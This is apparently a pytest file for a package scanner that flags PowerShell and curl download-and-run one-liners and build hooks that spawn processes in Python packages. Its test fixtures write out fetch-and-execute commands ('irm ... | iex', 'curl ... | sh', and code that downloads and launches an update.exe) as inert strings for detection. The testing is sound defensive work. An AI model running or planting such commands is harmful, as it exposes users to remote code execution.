"""Rules 73: PowerShell's own download-and-run one-liner, and advice that no longer hides
an action.

- ``download-run`` knows ``irm https://x/install.ps1 | iex`` (and ``iex (iwr $u)``,
  ``Invoke-RestMethod ... | Invoke-Expression``) without the word ``powershell`` beside it:
  handed to a process, it is an action; printed for the user to paste, it is advice, as
  ``curl ... | sh`` in a message always was.
- A file whose message gives such advice is still judged for the download and the program
  it runs itself (before, the advice alone decided the rule's weight).
- The code a build backend runs to read the version is install code, wherever it lies:
  hatch's ``[tool.hatch.version] source = "code"`` file, pdm-backend's ``[tool.pdm.version]
  source = "call"`` getter's module.

(Rules 73 also follow imports made in functions only when something run early calls the
function: ``test_scan_lazy_imports``.) The sources are inert text handed to the scanner;
nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.proxy.scan import scan_archive
from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"
ONE_LINER = "irm https://get.example.net/install.ps1 | iex"


def test_the_one_liner_handed_to_powershell_on_import_is_held() -> None:
    init = f"import subprocess\nsubprocess.run(['powershell', '-Command', {ONE_LINER!r}])\n"
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert rules.get("download-run") == 10, rules
    assert held


def test_the_one_liner_the_other_way_round_is_known() -> None:
    line = "iex (iwr https://get.example.net/install.ps1 -UseBasicParsing)"
    init = f"import subprocess\nsubprocess.run(['pwsh', '-c', {line!r}])\n"
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert rules.get("download-run") == 10, rules
    assert held


def test_the_one_liner_in_a_message_of_an_installer_is_advice() -> None:
    # An installer's module (nothing runs on import) that downloads and runs its tools when
    # asked, and tells its user how to repair by hand.
    module = (
        "import subprocess, urllib.request\n"
        "def fetch(url, path):\n    urllib.request.urlretrieve(url, path)\n"
        "def build(args):\n    subprocess.run(['cmake', *args], check=True)\n"
        f"def repair_hint():\n    print('   [WARN] Re-run this installer:')\n"
        f"    print({'   [WARN]     ' + ONE_LINER!r})\n"
    )
    files = {"demo/__init__.py": "VERSION = '1.0'\n", "demo/installer.py": module}
    rules, held = judge(wheel(files), WHEEL)
    assert rules.get("download-run", 0) < 6, rules
    assert not held


def test_advice_in_a_message_does_not_hide_a_program_downloaded_and_run() -> None:
    init = (
        "import os, subprocess, tempfile, urllib.request\n"
        "print('if this fails, run: curl -fsSL https://get.example.net/install.sh | sh')\n"
        "path = os.path.join(tempfile.gettempdir(), 'update.exe')\n"
        "urllib.request.urlretrieve('https://203.0.113.9/update.exe', path)\n"
        "subprocess.Popen([path])\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": init}), WHEEL)
    assert rules.get("download-run") == 10, rules
    assert held


#: A build that starts a program of its own, in a file nothing else imports.
SPAWNS = "import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1'])\n__version__ = '1.0'\n"
HATCH = "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n"
PDM = "[build-system]\nrequires = ['pdm-backend']\nbuild-backend = 'pdm.backend'\n"


@pytest.mark.parametrize(
    ("pyproject", "path"),
    [
        (
            HATCH + "[tool.hatch.version]\nsource = 'code'\npath = 'src/demo/__about__.py'\n",
            "src/demo/__about__.py",
        ),
        (
            PDM + "[tool.pdm.version]\nsource = 'call'\ngetter = 'demo.version:get_version'\n",
            "src/demo/version.py",
        ),
    ],
    ids=["hatch code source", "pdm call getter"],
)
def test_the_code_a_backend_runs_for_the_version_is_install_code(pyproject: str, path: str) -> None:
    # (A package large enough that modules nothing runs early are not all read whole.)
    tables = "".join(f"ROW_{i} = {i}\n" for i in range(4000))
    members = {
        "PKG-INFO": pkg_info(),
        "src/demo/__init__.py": "",
        "src/demo/tables.py": tables,
        path: SPAWNS,
    }
    report = scan_archive(sdist({**members, "pyproject.toml": pyproject}), "demo-1.0.tar.gz")
    assert any(f.rule == "install-process" and f.file == path for f in report.findings), (
        report.findings
    )
    # Where the backend reads the version otherwise, the same file is a module.
    plain = scan_archive(sdist({**members, "pyproject.toml": HATCH}), "demo-1.0.tar.gz")
    assert not any(f.rule == "install-process" for f in plain.findings), plain.findings
